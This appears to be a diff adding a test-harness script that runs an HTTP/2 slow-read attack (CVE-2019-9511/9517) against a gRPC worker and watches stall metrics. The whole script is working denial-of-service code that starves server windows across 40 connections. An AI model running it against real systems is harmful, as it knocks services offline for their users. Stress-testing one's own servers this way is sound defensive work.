@@ -1,0 +1,30 @@
+#!/usr/bin/python3
+"""Slow read: large answers asked for and not read. By TCP's window, by HTTP/2's (an initial window of nothing, then of a byte at a
+time, CVE-2019-9511 and -9517), and left so."""
+import struct
+
+from attacker import Peer, call, h2, main
+
+MARK = ("worker.readers_stalled", "worker.readers_cut", "grpc.tx_blocked", "worker.encode_waits")
+ENDED = False
+SIZE = 200000
+
+
+def attack(run):
+    none, wide = struct.pack(">HI", 4, 0), struct.pack(">HI", 4, 2**31 - 1)
+    peers = [Peer(run, settings=none) for _ in range(20)]
+    peers += [Peer(run, settings=wide, deaf=True, receive_buffer=4096) for _ in range(20)]
+    for peer in peers:
+        if peer.deaf:
+            peer.send(h2.frame(h2.WINDOW, 0, 0, (2**31 - 70000).to_bytes(4, "big")))
+        peer.send(b"".join(call(s, reply_bytes=SIZE) for s in range(1, 200, 2)), 200)
+    while run.going():
+        for peer in peers[:20]:
+            peer.send(b"".join(h2.frame(h2.WINDOW, 0, s, (1).to_bytes(4, "big")) for s in range(1, 20, 2)), 10)
+            peer.wait(0.05)
+    for peer in peers:
+        peer.close()
+
+
+if __name__ == "__main__":
+    main(attack)
